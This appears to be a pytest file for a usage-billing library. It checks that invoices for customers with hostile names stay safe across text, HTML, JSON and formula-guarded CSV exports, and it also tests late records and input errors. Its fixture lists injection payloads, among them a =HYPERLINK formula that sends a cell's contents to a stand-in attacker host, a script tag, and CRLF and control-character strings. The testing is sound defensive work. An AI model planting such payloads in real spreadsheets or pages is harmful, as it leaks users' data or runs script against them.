"""An e-mail service's hostile customers, late records and refusals.

Customer names come from sign-up forms: markup, spreadsheet formulas, a CRLF that would
forge an invoice line, a right-to-left override, a NUL, an escape sequence. The invoices a
stream closes for them are exported as the docs offer (text, HTML, rows as JSON, FOCUS
rows; ratekit writes no CSV, so the CSV here is the host's, guarded as docs/exports.md
"CSV and spreadsheets" says) and read back. A record redelivered after its cycle was
compacted is too late, named, and left out as batch would leave it out; bad input is a
`RatekitError` naming the record or field (docs/streaming.md "Closing and lateness",
docs/invoices.md "Presentation", docs/exports.md "Rows", docs/guarantees.md).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest

import ratekit as rk
from _html_pages import SAFE_TAGS, parsed

SENT = rk.Meter("sent", "message", rk.Discrete())
TZ = "Asia/Kolkata"
CYCLE = rk.cycles.monthly(tz=TZ, day=31)
FEB = CYCLE.containing("2028-02-10T00:00:00Z")  # 31 Jan .. 29 Feb 2028, Kolkata
PLAN = rk.Plan(
    "grad",
    "USD",
    CYCLE,
    [
        rk.PriceEntry(
            "messages", "sent", rk.Graduated([rk.Tier(1000, "0.001"), rk.Tier(None, "0.0005")])
        )
    ],
    fees=[rk.Fee("dedicated-ip", 30)],
    proration="days",
    tz=TZ,
)
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script>",
    "acme\r\n  total                  0.00",
    "\u202eevil",
    "nul\x00byte",
    "\x1b[31mred",
    "-2+3",
    "@SUM(1+1)",
    "back\\slash",
)
NUMBER = re.compile(r"[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?")


def guarded(cell: object) -> object:
    """docs/exports.md: prefix a text cell a spreadsheet would read as a formula."""
    if not isinstance(cell, str) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return cell
    return cell if NUMBER.fullmatch(cell) else "'" + cell


def closing_invoices() -> tuple[rk.Invoice, ...]:
    recs = [
        rk.Sample(
            name, "smtp<b>", "sent", FEB.start + dt.timedelta(hours=i + 1), 10 * (i + 1), id=f"m{i}"
        )
        for i, name in enumerate(NAMES)
    ]
    assigned = [rk.Assignment(name, PLAN) for name in NAMES]
    rater = rk.Rater(assigned, [SENT], start=FEB.start, tz=TZ)
    assert rater.feed(recs).accepted == tuple(f"m{i}" for i in range(len(NAMES)))
    rater = rk.Rater.restore(json.loads(json.dumps(rater.snapshot())), assigned, [SENT])
    invoices = rater.statement(FEB.end).invoices
    batch = rk.bill(rk.rate(recs, assigned, span=FEB, meters=[SENT]), tz=TZ)
    assert [str(i) for i in invoices] == [str(b) for b in batch]
    return invoices


def test_hostile_names_print_as_text_and_never_forge_a_line() -> None:
    invoices = closing_invoices()
    assert sorted(i.account for i in invoices) == sorted(NAMES)
    for invoice in invoices:
        text = str(invoice)
        # 10 x (i + 1) messages at 0.001 (at most 90: 0.09) and the whole fee 30: each
        # invoice has its header, a blank, the column heads, two lines, a tier row, a blank
        # and the total: 8 lines, whatever the name.
        assert len(text.splitlines()) == 8, text
        assert not any(c in text for c in "\r\x00\x1b\u202e")
        assert text.splitlines()[-1].split()[-1] == str(invoice.total)
    crlf = next(i for i in invoices if i.account.startswith("acme"))
    assert str(crlf).splitlines()[0].startswith("Invoice acme\\r\\n")


def test_hostile_names_in_html_stay_text() -> None:
    for invoice in closing_invoices():
        page = parsed(invoice._repr_html_())
        assert page.tags <= SAFE_TAGS
        assert all(name not in ("onerror", "href", "src") for name, _ in page.attributes)
    statement_page = parsed(
        rk.Rater([rk.Assignment(n, PLAN) for n in NAMES], [SENT], start=FEB.start)
        .statement(FEB.end)
        ._repr_html_()
    )
    assert statement_page.tags <= SAFE_TAGS


def test_hostile_names_round_trip_as_json_rows_and_guarded_csv() -> None:
    invoices = closing_invoices()
    stored = json.dumps([rk.to_row(i) for i in invoices])
    back = [rk.from_row(rk.Invoice, row) for row in json.loads(stored)]
    assert back == list(invoices)
    assert [str(b) for b in back] == [str(i) for i in invoices]
    rows = rk.focus_rows(invoices, provider="Mail")
    assert {row["BillingAccountId"] for row in rows} == set(NAMES)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["BillingAccountId", "BilledCost"])
    writer.writeheader()
    for row in rows:
        writer.writerow({key: guarded(row[key]) for key in ("BillingAccountId", "BilledCost")})
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    # Every formula-looking name is quoted; every cost stays a number; the CRLF name stays
    # one cell of one row.
    assert len(read) == len(rows)
    assert all(not r["BillingAccountId"].startswith(("=", "+", "@")) for r in read)
    assert "'-2+3" in {r["BillingAccountId"] for r in read}
    assert all(NUMBER.fullmatch(r["BilledCost"]) for r in read)
    total = sum(Decimal(r["BilledCost"]) for r in read)
    # 30 x 9 fees + (10 + 20 + ... + 90) x 0.001 = 270 + 0.45; each line rounds once:
    # 0.01, 0.02, ..., 0.09 = 0.45 (no half-cent ties).
    assert total == Decimal("270.45")


def test_a_record_redelivered_after_its_cycle_was_compacted_is_too_late_and_named() -> None:
    rater = rk.Rater(PLAN, [SENT], start=FEB.start, horizon=dt.timedelta(days=1), tz=TZ)
    first = rk.Sample("acme", "smtp", "sent", FEB.start + dt.timedelta(days=1), 700, id="a")
    assert rater.feed([first]).accepted == ("a",)
    nxt = CYCLE.containing(FEB.end)
    # Feb closes at its end + 1 day; it is kept until March closes, and compacted then.
    closed = rater.statement(nxt.end + dt.timedelta(days=1))
    assert len(closed.closed) == 2
    stray = rk.Sample("acme", "smtp", "sent", FEB.start + dt.timedelta(days=2), 400, id="b")
    feed = rater.feed([stray, first])
    assert (feed.too_late, feed.duplicates) == (("b",), ("a",))
    (anomaly,) = feed.anomalies
    assert (anomaly.kind, anomaly.record_ids, anomaly.quantity) == (
        "too_late",
        ("b",),
        Decimal(400),
    )
    assert "'b'" in anomaly.message
    # Nothing of it is billed; batch of what the rater took bills Feb at 700 x 0.001
    # + 30 = 30.70, as the closing did.
    after = rater.statement(nxt.end + dt.timedelta(days=2))
    # Only the open cycle's fee moves on, by one more of its 30 local days: 30 x 1/30 = 1.
    assert {(line.kind, line.cycle, line.late) for line in after.lines} == {
        ("fee", CYCLE.containing(nxt.end), False)
    }
    assert after.total() == Decimal(1)
    (feb,) = rk.bill(rk.rate([first], PLAN, span=FEB, meters=[SENT]), tz=TZ)
    assert feb.total == Decimal("30.70")


@pytest.mark.parametrize(
    ("make", "kind", "words"),
    [
        (
            lambda: rk.Sample("acme", "smtp", "sent", dt.datetime(2028, 2, 1), 1, id="n"),  # noqa: DTZ001
            rk.BadTimeError,
            ["'n'", "naive"],
        ),
        (
            lambda: rk.Sample("acme", "smtp", "sent", "2028-02-01T00:00:00Z", True, id="b"),
            rk.RatekitTypeError,
            ["'b'", "bool"],
        ),
        (
            lambda: rk.Sample("acme", "smtp", "sent", "2028-02-01T00:00:00Z", float("nan"), id="f"),
            rk.BadQuantityError,
            ["'f'", "finite"],
        ),
        (
            lambda: rk.Sample("acme", "smtp", "sent", "2028-02-01T00:00:00Z", "1e400", id="h"),
            rk.BadQuantityError,
            ["'h'", "60 significant digits"],
        ),
        (
            lambda: rk.Sample("", "smtp", "sent", "2028-02-01T00:00:00Z", 1, id="e"),
            rk.RatekitTypeError,
            ["'e'", "account"],
        ),
        (lambda: rk.cycles.monthly(tz=TZ, day=32), rk.BadCalendarError, ["day 32", "1 to 31"]),
        (
            lambda: rk.cycles.monthly(tz="Asia/Calcuta", day=31),
            rk.BadCalendarError,
            ["'Asia/Calcuta'", "IANA"],
        ),
        (
            lambda: rk.Credit("w", "acme", -5, "USD", start=FEB.start),
            rk.BadQuantityError,
            ["amount", "greater than 0"],
        ),
        (
            lambda: rk.Credit("w", "acme", 5, "usd", start=FEB.start),
            rk.BadPriceError,
            ["'usd'", "USD"],
        ),
        (
            lambda: rk.bill(
                rk.rate([], [rk.Assignment("acme", PLAN)], span=FEB),
                credits=[rk.Credit("w", "acme", "10.005", "USD", start=FEB.start)],
            ),
            rk.BadQuantityError,
            ["'w'", "0.01"],
        ),
        (
            lambda: rk.Rater(PLAN, [SENT], start=FEB.start).statement(None),
            rk.RatekitTypeError,
            ["as_of", "aware datetime"],
        ),
        (
            lambda: rk.Rater(PLAN, [SENT], start=FEB.start).feed(
                rk.Sample("acme", "s", "sent", FEB.start, 1, id="x")
            ),
            rk.RatekitTypeError,
            ["iterable", "Sample"],
        ),
        (
            lambda: rk.Rater.restore({"format": "nope"}, PLAN, [SENT]),
            rk.BadSnapshotError,
            ["Rater.snapshot()"],
        ),
    ],
)
def test_bad_input_is_refused_naming_what_and_why(
    make: object, kind: type, words: list[str]
) -> None:
    with pytest.raises(kind) as caught:
        make()  # type: ignore[operator]
    assert isinstance(caught.value, rk.RatekitError)
    for word in words:
        assert word in str(caught.value)


def test_invoice_lines_as_a_guarded_csv_keep_every_digit_and_every_name() -> None:
    pytest.importorskip("pandas")
    invoices = closing_invoices()
    frame = rk.invoice_lines_frame(invoices)
    text_columns = ["account", "kind", "meter", "entry", "unit"]
    for column in text_columns:
        frame[column] = frame[column].map(guarded)
    out = io.StringIO()
    frame[[*text_columns, "amount"]].to_csv(out, index=False)
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    # 9 accounts x (messages + fee) = 18 rows; each name is one cell, quoted when it would
    # read as a formula; the amounts add up to the invoices' totals, 270.45.
    assert len(read) == 18
    assert {r["account"] for r in read} == {guarded(n) for n in NAMES}
    assert sum(Decimal(r["amount"]) for r in read) == sum(i.total for i in invoices)
    assert sum(i.total for i in invoices) == Decimal("270.45")
